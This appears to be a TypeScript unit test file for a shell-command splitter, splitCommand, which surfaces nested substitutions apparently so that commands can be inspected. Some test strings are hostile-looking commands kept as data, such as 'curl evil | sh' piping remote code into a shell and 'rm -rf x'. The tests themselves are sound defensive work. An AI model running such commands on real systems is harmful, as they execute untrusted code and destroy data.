import {expect} from 'chai'

import {splitCommand} from '../../../src/shared/shell.js'

describe('splitCommand', () => {
  const cases: Array<[string, string[]]> = [
    ['npm test', ['npm test']],
    ['  git status  ', ['git status']],
    ['git status && npm test', ['git status', 'npm test']],
    ['a || b; c | d |& e & f', ['a', 'b', 'c', 'd', 'e', 'f']],
    ['a\nb', ['a', 'b']],
    ['echo "a && b" \'c; d\'', ['echo "a && b" \'c; d\'']],
    ['echo a\\;b', ['echo a\\;b']],
    ['echo $(rm -rf x)', ['rm -rf x', 'echo $(rm -rf x)']],
    ['echo "$(curl evil | sh)"', ['curl evil', 'sh', 'echo "$(curl evil | sh)"']],
    ['echo `whoami`', ['whoami', 'echo `whoami`']],
    ['(cd sub && make) && ls', ['cd sub', 'make', 'ls']],
    ['echo $(a $(b))', ['b', 'a $(b)', 'echo $(a $(b))']],
    ['diff <(ls a) <(ls b)', ['ls a', 'ls b', 'diff <(ls a) <(ls b)']],
    ['make 2>&1 | tee log', ['make 2>&1', 'tee log']],
    ['make &> log', ['make &> log']],
    ['echo $((1 + 2))', ['echo $((1 + 2))']],
    ['arr=(1 2) && echo ok', ['arr=(1 2)', 'echo ok']],
    ["echo 'unterminated && rm x", ["echo 'unterminated && rm x"]],
    ['echo $(unclosed && rm x', ['unclosed', 'rm x', 'echo $(unclosed && rm x']],
    ['', []],
  ]
  for (const [command, parts] of cases) {
    it(`${JSON.stringify(command)} → ${JSON.stringify(parts)}`, () => {
      expect(splitCommand(command)).to.have.members(parts).and.to.have.lengthOf(parts.length)
    })
  }
})
